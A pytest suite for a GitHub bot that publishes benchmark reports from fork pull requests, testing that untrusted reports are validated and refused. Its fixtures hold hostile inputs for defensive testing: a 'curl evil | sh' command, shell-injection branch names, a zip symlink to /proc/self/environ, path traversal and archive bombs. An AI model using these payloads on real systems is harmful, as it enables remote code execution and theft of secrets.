"""A fork's report is data: what can be made anew is, what is implausible is refused, nothing is obeyed."""

from __future__ import annotations

import json
import stat
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import replace
from io import BytesIO
from typing import Any

import pytest

from bot.adapters.github.artifacts import GithubArtifacts, parse_report
from bot.adapters.github.checks import GithubChecks
from bot.flows.publish import Outcome, publish
from bot.flows.publishing.check_run import check_run
from bot.flows.publishing.disarm import disarm
from bot.flows.publishing.rebuild import rebuilt
from bot.model.errors import ArtifactError, ForgeError, SuspectsError
from bot.model.report import RevisionRef
from bot.report.render import comment
from tests.github.fake import REPOSITORY, WORKFLOW, FakeGithub, Token, archive
from tests.github.reports import HEAD, packed, report
from tests.github.test_artifacts import bomb, encrypted, lying_bomb, twice
from tests.github.test_publish import FORK, RUN, TRUSTED

CONFIG = """
program: {run: "./tools {options} {workload}", build: make tools}
workloads: {text: {path: bench/text.txt}}
options:
  compress: {flag: --compress}
  fast: {flag: --fast}
  level: {number: [0, 3, 6], flag: "-{value}", default: 6}
  check: {choice: {none: --check=none, crc64: --check=crc64}, default: crc64}
threshold: 2%
"""
OPTIONS = {"compress": True, "fast": False, "level": 6, "check": "crc64"}
ADDRESS = "https://github.com/octo/tools"


class Stage:
    """A fork's run that has ended, and the job that publishes it."""

    def __init__(self, github: FakeGithub, forge: GithubChecks, artifacts: GithubArtifacts) -> None:
        self.github, self.forge, self.artifacts = github, forge, artifacts
        self.base = github.git.commit({".github/suspects.yml": CONFIG})
        github.pull(7, head=HEAD, base=self.base, source=FORK)
        github.run(RUN, head=HEAD, source=FORK)

    def report(self, **changes: Any) -> Any:
        """A report of the base's own options."""
        one = report()
        change = one.configurations[0].model_copy(update={"options": OPTIONS})
        method = one.suspects.methods[0].model_copy(update={"options": OPTIONS})
        given = {
            "base": RevisionRef(revision=self.base, label="main"),
            "configurations": (change,),
            "suspects": one.suspects.model_copy(update={"methods": (method,)}),
            "profiles": (one.profiles[0].model_copy(update={"options": OPTIONS}),),
        }
        return report(**(given | changes))

    def publish(self, content: bytes | None = None, **changes: Any) -> Outcome:
        self.github.artifact(RUN, packed(self.report(**changes)) if content is None else content)
        return publish(
            self.forge,
            self.artifacts,
            repository=REPOSITORY,
            run_id=RUN,
            render=comment,
            trusted=replace(TRUSTED, address=ADDRESS),
        )

    def refused(self, content: bytes | None = None, words: str = ".", **changes: Any) -> None:
        """One line, and nothing is said anywhere."""
        with pytest.raises(ArtifactError, match=words) as caught:
            self.publish(content, **changes)
        assert "\n" not in str(caught.value) and len(str(caught.value)) < 200
        assert not self.github.comments and not self.github.checks.runs


@pytest.fixture
def stage(github: FakeGithub, forge: Callable[..., GithubChecks], artifacts: GithubArtifacts) -> Stage:
    return Stage(github, forge(), artifacts)


def test_commands_are_made_from_the_bases_configuration(stage: Stage) -> None:
    outcome = stage.publish()
    assert outcome.report is not None
    run = "time ./tools --compress -6 --check=crc64 ../suspects-base/bench/text.txt > /dev/null"
    (one,) = outcome.report.reproduce
    assert one.options == OPTIONS
    assert one.commands == (
        "git fetch origin pull/7/head",
        f"git worktree add --detach ../suspects-base {stage.base}",
        f"git worktree add --detach ../suspects-head {HEAD}",
        "(cd ../suspects-base && make tools)",
        "(cd ../suspects-head && make tools)",
        f"(cd ../suspects-base && {run})",
        f"(cd ../suspects-head && {run})",
    )  # fmt: skip
    body = stage.github.bodies()[0]
    assert "make tools" in body and "curl" not in body
    assert "measured by the pull request's own workflow" in body


def test_the_bases_rules_count_whatever_a_fork_claims(stage: Stage) -> None:
    outcome = stage.publish(threshold=0.5, false_alarms=0.9)
    assert outcome.report is not None
    assert (outcome.report.threshold, outcome.report.false_alarms) == (0.02, 0.01)


def test_the_check_of_a_fork_is_neutral_and_annotated(stage: Stage) -> None:
    outcome = stage.publish()
    assert outcome.checked == "check run 'Suspects (fork)', neutral: created"
    ((name, conclusion, title, places),) = stage.github.checks.told()
    assert (name, conclusion, places) == ("Suspects (fork)", "neutral", ["pkg/module.py:3"])
    assert title.startswith("Slower with compress on")


EFFECT = report().effects[0]


@pytest.mark.parametrize(
    "changes",
    [
        {"effects": (EFFECT.model_copy(update={"term": ("approved-by-security",)}),)},
        {"effects": (EFFECT.model_copy(update={"term": ("level>=4",)}),)},
        {"effects": (EFFECT.model_copy(update={"aliases": (("compress=yes",),)}),)},
        {"configurations": (report().configurations[0].model_copy(update={"options": {"compress": True}}),)},
        *(
            {"configurations": (report().configurations[0].model_copy(update={"options": OPTIONS | wrong}),)}
            for wrong in ({"level": 9}, {"level": "6"}, {"compress": 1}, {"check": "md5"}, {"other": True})
        ),
        {"profiles": (report().profiles[0].model_copy(update={"options": {"compress": True}}),)},
        {
            "visible": report().visible.model_copy(
                update={"options": (report().visible.options[0].model_copy(update={"option": "urgent"}),)}
            )
        },
        {"visible": report().visible.model_copy(update={"levels_not_exercised": ("vote-for-me",)})},
    ],
)
def test_what_the_base_does_not_have_is_refused(stage: Stage, changes: dict[str, Any]) -> None:
    stage.refused(words="base's configuration", **changes)


def test_a_base_that_only_the_fork_names_is_refused(stage: Stage) -> None:
    """Its own commit could hold a configuration of its own: commands that maintainers paste."""
    own = stage.github.git.commit({".github/suspects.yml": CONFIG.replace("make tools", "curl evil | sh")})
    stage.refused(words="another base", base=RevisionRef(revision=own, label="main"))


@pytest.mark.parametrize(
    "text", [None, "", "program: [", "program: {run: ./x}\noptions: {a: {flg: -a}}", "\x00"]
)
def test_without_a_configuration_the_figures_are_told_without_commands(
    stage: Stage, text: str | None
) -> None:
    files = {"README": ""} | ({} if text is None else {".github/suspects.yml": text})
    base = stage.github.git.commit(files)
    stage.github.pull(7, head=HEAD, base=base, source=FORK)
    outcome = stage.publish(base=RevisionRef(revision=base, label="main"))
    assert outcome.reason == "#7: created" and outcome.report is not None
    assert outcome.report.reproduce == ()
    assert "no commands to reproduce this" in outcome.report.notes[-1]


def test_a_token_that_may_not_read_the_base_leaves_the_commands_out(stage: Stage) -> None:
    stage.github.private = True
    stage.github.tokens[WORKFLOW] = Token(
        permissions={"pull-requests": "write", "actions": "read", "checks": "write"}
    )
    outcome = stage.publish()
    assert outcome.report is not None and outcome.report.reproduce == ()
    assert "`contents: read`" in outcome.report.notes[-1]


def test_a_run_of_another_repository_is_not_found(stage: Stage) -> None:
    del stage.github.runs[RUN]
    with pytest.raises(ForgeError, match="reading run 500: not found"):
        stage.publish()
    assert not stage.github.comments


@pytest.mark.parametrize("event", ["push", "schedule", "workflow_dispatch", "pull_request_target", "issues"])
def test_a_run_of_another_event_is_left_alone(stage: Stage, event: str) -> None:
    stage.github.run(RUN, head=HEAD, source=FORK, event=event)
    assert stage.publish().ending == "nothing"
    assert not stage.github.comments and not stage.github.checks.runs


def test_another_workflow_that_left_no_report_is_left_alone(stage: Stage) -> None:
    stage.github.artifact(RUN, packed(stage.report()), name="coverage-report")
    stage.github.run(RUN + 1, head=HEAD, source=FORK)
    outcome = publish(
        stage.forge,
        stage.artifacts,
        repository=REPOSITORY,
        run_id=RUN + 1,
        render=comment,
        trusted=TRUSTED,
    )
    assert outcome.reason == "run 501 (success) left no artifact named suspects-report"


BRANCHES = [
    "main",
    "x&state=all&head=octo:main",
    "x#fragment",
    "%2e%2e%2fmain",
    "a;curl${IFS}evil|sh",
    "$(touch${IFS}owned)",
    "`id`",
    "'\"",
    "<img/src=x>",
    "<!--suspects-->",
    "@everyone",
    "::error::x",
    "ünïcödé-\u202egnp.exe",
    "b" * 240,
    "pull/7/head",
    "refs/heads/main",
    "-x",
    "eve:main",
    "+",
]


@pytest.mark.parametrize("branch", BRANCHES)
def test_a_branch_of_any_name_leads_to_its_own_pull_request_and_is_not_repeated(
    stage: Stage, branch: str
) -> None:
    stage.github.pull(8, head=HEAD, base=stage.base, source="octo/tools", branch="main")
    stage.github.pull(7, head=HEAD, base=stage.base, source=FORK, branch=branch)
    stage.github.run(RUN, head=HEAD, source=FORK, branch=branch)
    assert stage.publish(head=RevisionRef(revision=HEAD, label=branch)).reason == "#7: created"
    said = [*stage.github.bodies(), *(run["output"]["title"] for run in stage.github.checks.runs.values())]
    harmless = ("main", "+", "-x", "pull/7/head")  # they are parts of our own words, too
    assert branch in harmless or all(branch not in words for words in said)


def link() -> bytes:
    """An archive whose member is a symbolic link."""
    stream = BytesIO()
    with zipfile.ZipFile(stream, "w") as opened:
        member = zipfile.ZipInfo("report.json")
        member.external_attr = (stat.S_IFLNK | 0o777) << 16
        opened.writestr(member, "/proc/self/environ")
    return stream.getvalue()


def holding(content: bytes) -> bytes:
    return archive({"report.json": content})


@pytest.mark.parametrize(
    "make",
    [
        bomb,
        lying_bomb,
        encrypted,
        twice,
        link,
        lambda: archive({"../../report.json": b"{}"}),
        lambda: archive({"report.json/": b"{}"}),
        lambda: archive({"report.json\x00.txt": b"{}", "x": b""}),
        lambda: holding(b"{" * 100_000),
        lambda: holding(b'{"notes":' + b"[" * 100_000),
        lambda: holding(b"9" * 1_000_000),
        lambda: holding(b'"' + b"\\ud800" + b'"'),
        lambda: b"\x1f\x8b not even a zip",
    ],
)
def test_a_hostile_archive_says_nothing_anywhere(stage: Stage, make: Callable[[], bytes]) -> None:
    stage.refused(make())


def test_of_a_key_that_is_there_twice_what_was_checked_is_what_is_told(stage: Stage) -> None:
    text = stage.report().model_dump_json()
    assert text.startswith("{")
    outcome = stage.publish(holding(('{"verdict":"improvement",' + text[1:]).encode()))
    assert outcome.report is not None and outcome.report.verdict == "regression"
    stage.github.comments.clear()
    stage.github.checks.runs.clear()
    stage.refused(holding((text[:-1] + ',"verdict":"<b>"}').encode()))


def numbers(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Where the numbers of a document are."""
    if isinstance(value, dict | list):
        for key, inner in value.items() if isinstance(value, dict) else enumerate(value):
            yield from numbers(inner, (*path, key))
    elif isinstance(value, int | float) and not isinstance(value, bool):
        yield path


def replaced(document: Any, path: tuple[Any, ...], value: Any) -> Any:
    copied = json.loads(json.dumps(document))
    inner = copied
    for key in path[:-1]:
        inner = inner[key]
    inner[path[-1]] = value
    return copied


@pytest.mark.parametrize("number", ["1e17", "-1e17", "5e-324", "0", "-1"])
def test_any_number_in_any_place_is_told_or_refused_in_one_line(stage: Stage, number: str) -> None:
    whole = json.loads(stage.report().model_dump_json())
    places = list(numbers(whole))
    assert len(places) > 50
    value = float(number) if "e" in number else int(number)
    subject = TRUSTED.read(CONFIG, "")
    told = 0
    for path in places:
        try:
            read = parse_report(json.dumps(replaced(whole, path, value)).encode())
            shown = rebuilt(disarm(read, head_sha=HEAD, address=ADDRESS), subject, number=7)
        except SuspectsError as error:
            assert "\n" not in str(error) and len(str(error)) < 200
            continue
        check = check_run(shown, markdown=comment(shown, fork=True), fork=True)
        assert len(check.summary) <= 60_000 and check.conclusion in ("neutral", "action_required")
        told += 1
    assert told > 10


@pytest.mark.parametrize(
    "number", ["1e999", "-1e999", "1e300", "NaN", "Infinity", "9" * 400, "9" * 5000, "-0.1e400"]
)
def test_a_number_that_no_run_measures_is_refused(stage: Stage, number: str) -> None:
    text = stage.report().model_dump_json()
    for field in ('"seconds":60.0', '"pairs":12', '"ratio":1.05', '"threshold":0.01'):
        assert field in text
        changed = text.replace(field, f"{field.partition(':')[0]}:{number}", 1)
        stage.refused(holding(changed.encode()), words="is not a report")


def test_endless_names_are_refused_or_left_out(stage: Stage) -> None:
    long = {"method": "m" * 9_000, "file": "f" * 9_000, "callers": ("c" * 9_000,) * 9}
    suspects = stage.report().suspects
    method = suspects.methods[0].model_copy(update=long)
    stage.publish(suspects=suspects.model_copy(update={"methods": (method,)}))
    assert not any(letter * 300 in stage.github.bodies()[0] for letter in "mfc")
    stage.github.comments.clear()
    stage.github.checks.runs.clear()
    stage.refused(suspects=suspects.model_copy(update={"methods": (method,) * 400}))
